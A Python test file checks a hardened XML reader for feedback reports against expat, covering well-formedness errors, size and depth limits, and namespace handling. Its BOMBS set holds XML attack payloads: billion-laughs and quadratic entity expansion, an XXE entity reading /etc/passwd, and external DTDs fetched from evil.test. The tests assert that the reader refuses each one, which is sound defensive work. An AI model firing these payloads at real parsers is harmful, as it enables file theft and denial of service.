"""The small XML reader: what expat reads it reads alike, what expat refuses it refuses, and no document type at all."""

from __future__ import annotations

import random
from xml.parsers import expat

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scop.base import LimitExceeded, RemoteProtocolError
from scop.reports.defects import Defects
from scop.reports.limits import DEFAULT_LIMITS, Limits
from scop.reports.xml_reader import Element, children_of
from scop.reports.xml_text import decode_xml

ROOT = "feedback"


def read(octets: bytes, limits: Limits = DEFAULT_LIMITS) -> list[object]:
    """Return the children of the root as nested lists of name, text and children."""
    text, start = decode_xml(octets, Defects())
    return [tree(child) for child in children_of(text, ROOT, Defects(), start=start, limits=limits)]


def tree(element: Element) -> list[object]:
    """Return an element as plain values."""
    return [element.name, element.text.strip(), [tree(child) for child in element.children]]


def read_by_expat(octets: bytes) -> list[object]:
    """Return the same of a document, as expat reads it."""
    parser = expat.ParserCreate()
    top: list[object] = []
    open_: list[tuple[list[object], list[str], list[object]]] = [([], [], top)]

    def begin(name: str, attributes: dict[str, str]) -> None:
        children: list[object] = []
        element: list[object] = [name, "", children]
        open_[-1][2].append(element)
        open_.append((element, [], children))

    def end(name: str) -> None:
        element, texts, _ = open_.pop()
        element[1] = "".join(texts).strip()

    def take(text: str) -> None:
        open_[-1][1].append(text)

    parser.StartElementHandler = begin
    parser.EndElementHandler = end
    parser.CharacterDataHandler = take
    parser.Parse(octets, True)
    root = top[0]
    assert isinstance(root, list)
    children = root[2]
    assert isinstance(children, list)
    return children


_TEXTS = ("", "1", " a b ", "é\u2003", "\n\t", "&amp;", "&#65;&#x41;", "<![CDATA[<]&]]>", "]] >", "\U0001f600")
_ASIDES = ("", "<!-- a - b -->", "<?say so?>", "<?x?>", " \n ", "]]<![CDATA[>]]>")
_NAMES = ("row", "a", "é-1.b", "_x", "feedback")
_ATTRIBUTES = ("", "", " ", ' lang="en"', " a='>'", " a = '1'\n b=\"&lt;'\"", ' a="1" a="2"', ' a="&x;"', " a='<'")
_MARKS = ("", *"<>&;/!?-[]\"'= ax\n")


def content(chance: random.Random, depth: int) -> str:
    """Return what may stand in an element, mostly well-formed."""
    return "".join(piece(chance, depth) for _ in range(chance.randrange(4)))


def piece(chance: random.Random, depth: int) -> str:
    """Return text, something aside, or an element."""
    if depth == 4 or chance.random() < 0.4:
        return chance.choice(chance.choice((_TEXTS, _TEXTS, _ASIDES)))
    name = chance.choice(_NAMES)
    attributes = chance.choice(_ATTRIBUTES) if chance.random() < 0.3 else ""
    if chance.random() < 0.2:
        return f"<{name}{attributes}/>"
    return f"<{name}{attributes}>{content(chance, depth + 1)}</{name}{chance.choice(('', '', ' '))}>"


def document(seed: int) -> str:
    """Return a document; every other one has a character put in, taken out or changed."""
    chance = random.Random(seed)
    head = chance.choice(("", '<?xml version="1.0"?>', "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\r\n"))
    body = f"<{ROOT}>{content(chance, 0)}{content(chance, 0)}</{ROOT}>{chance.choice(_ASIDES)}"
    if seed % 2:
        at = chance.randrange(len(body))
        body = body[:at] + chance.choice(_MARKS) + body[at + chance.randrange(2) :]
    return head + body


@settings(max_examples=250)
@given(text=st.integers(0, 2**32).map(document))
@example(text="<feedback><a>1<b/>2</a></feedback>")
@example(text="<feedback>a&amp; &amp;</feedback >")
@example(text="<feedback><a b='1'/>x</a></feedback>")
@example(text="<feedback/>\n<!---->")
def test_what_expat_reads_is_read_alike(text: str) -> None:
    """XML 1.0 §2.1: the same documents are well-formed to both, and they hold the same elements and texts."""
    octets = text.encode()
    try:
        expected = read_by_expat(octets)
    except expat.ExpatError:
        with pytest.raises(RemoteProtocolError):
            read(octets)
    else:
        assert expected == read(octets)


BROKEN = {
    "no element": ("", "there is no element 'feedback'"),
    "another root": ("<other/>", "there is no element 'feedback'"),
    "text before": ("x<feedback/>", "'x' stands outside of the root element"),
    "text behind": ("<feedback/>x", "'x' stands outside of the root element"),
    "reference outside": ("<feedback/>&amp;", "a reference stands outside"),
    "second root": ("<feedback/><feedback/>", "a second root element 'feedback'"),
    "second report": ("<a><feedback/><feedback/></a>", "a second element 'feedback'"),
    "never closed": ("<feedback><a>", "the document ends inside of 'a'"),
    "closed twice": ("<feedback></feedback></feedback>", "closes nothing"),
    "crossed": ("<feedback><a><b></a></b></feedback>", "line 1: </a> where 'b' is open"),
    "attribute twice": ("<feedback><a b='1' b='2'/></feedback>", "an attribute stands twice"),
    "bare ampersand": ("<feedback>\n\na & b</feedback>", "line 3: '& b</feedback>' is none of the references"),
    "entity": ("<feedback>&nbsp;</feedback>", "'&nbsp;</feedback>' is none of the references"),
    "character that is none": ("<feedback>&#0;</feedback>", "is none of the references"),
    "half a character": ("<feedback>&#xD800;</feedback>", "is none of the references"),
    "character beyond all": ("<feedback>&#99999999;</feedback>", "is none of the references"),
    "less-than in value": ("<feedback a='<'/>", "is no markup"),
    "CDATA end in text": ("<feedback>a]]>b</feedback>", "']]>' stands in text"),
    "CDATA end in leaf": ("<feedback><a>]]></a></feedback>", "']]>' stands in text"),
    "CDATA open": ("<feedback><![CDATA[ </feedback>", "a CDATA section does not end"),
    "comment with dashes": ("<feedback><!-- a -- b --></feedback>", "a comment does not end, or has '--' in it"),
    "comment open": ("<feedback><!-- </feedback>", "a comment does not end"),
    "late declaration": ("<feedback><?xml version='1.0'?></feedback>", "an instruction is malformed"),
    "instruction open": ("<feedback><?x </feedback>", "an instruction is malformed"),
    "unquoted value": ("<feedback a=1/>", "is no markup"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_not_well_formed_is_refused(name: str) -> None:
    """XML 1.0 §2.1: each departure ends the reading, with a sentence that says what is wrong."""
    document, sentence = BROKEN[name]
    with pytest.raises(RemoteProtocolError) as caught:
        read(document.encode())
    assert sentence in str(caught.value)


BOMBS = {
    "billion laughs": '<!DOCTYPE f [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><feedback>&b;</feedback>',
    "external entity": '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feedback>&x;</feedback>',
    "external subset": '<!DOCTYPE feedback SYSTEM "http://evil.test/a.dtd"><feedback/>',
    "parameter entity": '<!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.test/"> %p;]><feedback/>',
    "quadratic blowup": f'<!DOCTYPE f [<!ENTITY a "{"a" * 5000}">]><feedback>{"&a;" * 5000}</feedback>',
    "empty": "<!DOCTYPE feedback><feedback/>",
    "inside": "<feedback><!ELEMENT a ANY></feedback>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_no_document_type_is_read(name: str) -> None:
    """Where all entities come from, the reading ends: nothing is expanded and nothing is fetched."""
    with pytest.raises(RemoteProtocolError, match="a document type declaration is never read"):
        read(BOMBS[name].encode())


def test_depth_is_bounded() -> None:
    """Elements within elements are read to the limit, and refused one deeper."""
    limits = Limits(depth=4)
    deep = "<feedback>" + "<a>" * 3 + "<leaf/>" + "</a>" * 3 + "</feedback>"
    assert 1 == len(read(deep.encode(), limits))
    with pytest.raises(LimitExceeded, match="levels of elements: at most 4 are read"):
        read(f"<feedback><a>{deep[10:-11]}</a></feedback>".encode(), limits)


def test_the_marks_within_one_record_are_bounded() -> None:
    """An element of four octets costs two hundred: so many, however many records."""
    limits = Limits(marks=6)
    record = "<r><a/><b>1</b><a/></r>"
    assert 9 == len(read(f"<feedback>{record * 9}</feedback>".encode(), limits))
    with pytest.raises(LimitExceeded, match="marks within one record: at most 6 are read"):
        read(f"<feedback>{record[:-4]}{'<a/>' * 4}</r></feedback>".encode(), limits)


@pytest.mark.parametrize(("length", "is_read"), [(20_000, True), (20_001, False)])
def test_attributes_are_bounded(length: int, is_read: bool) -> None:
    """Each is some 200 octets in memory, and a tag could hold a million of them."""
    document = f"<feedback{' a=' + repr('x' * (length - 5))}><a/></feedback>"
    if is_read:
        assert 1 == len(list(children_of(document, ROOT, Defects(), limits=DEFAULT_LIMITS)))
    else:
        with pytest.raises(LimitExceeded, match="characters of attributes"):
            list(children_of(document, ROOT, Defects(), limits=DEFAULT_LIMITS))


def test_three_thousand_levels_cost_no_recursion() -> None:
    """A limit that high is reached without Python's own stack."""
    deep = b"<feedback>" + b"<a>" * 3_000 + b"</a>" * 3_000 + b"</feedback>"
    element = next(iter(children_of(deep.decode(), ROOT, Defects(), limits=Limits(depth=4_000))))
    levels = 0
    while element.children:
        element, levels = element.children[0], levels + 1
    assert 2_999 == levels


NAMESPACES = {
    "none": ("<feedback><row/></feedback>", ["row"]),
    "default": ('<feedback xmlns="urn:a"><row/></feedback>', ["row"]),
    "prefixed": ('<d:feedback xmlns:d="urn:a"><d:row/><row/></d:feedback>', ["row", "row"]),
    "unqualified": ('<feedback xmlns="urn:a"><row xmlns=""/></feedback>', ["row"]),
    "prefixed, extension": (
        '<d:feedback xmlns:d="urn:a"><row xmlns="urn:e"/><e:row/></d:feedback>',
        ["{urn:e}row", "e:row"],
    ),
    "extension": ('<feedback xmlns="urn:a" xmlns:e="urn:e"><e:row/><row/></feedback>', ["e:row", "row"]),
    "another default": (
        '<feedback xmlns="urn:a"><row xmlns="urn:e"/><row xmlns="urn:a"/></feedback>',
        ["{urn:e}row", "row"],
    ),
    "wrapped": ('<x:all xmlns:x="urn:x"><x:a><row/></x:a><feedback><row/></feedback><b><row/></b></x:all>', ["row"]),
}


@pytest.mark.parametrize("name", NAMESPACES)
def test_elements_of_extensions_are_not_taken_for_the_reports(name: str) -> None:
    """RFC 9990 §5: what has another namespace keeps another name, whatever prefix the report itself has."""
    document, names = NAMESPACES[name]
    assert names == [child.name for child in children_of(document, ROOT, Defects(), limits=DEFAULT_LIMITS)]


def test_a_wrapper_that_is_never_closed_is_noted() -> None:
    """The report in it is whole; one that ends inside of the report is not."""
    defects = Defects()
    found = list(children_of("<x><feedback><a/></feedback>", ROOT, defects, limits=DEFAULT_LIMITS))
    assert (["a"], ("'x' around it is never closed",)) == ([child.name for child in found], defects.all())
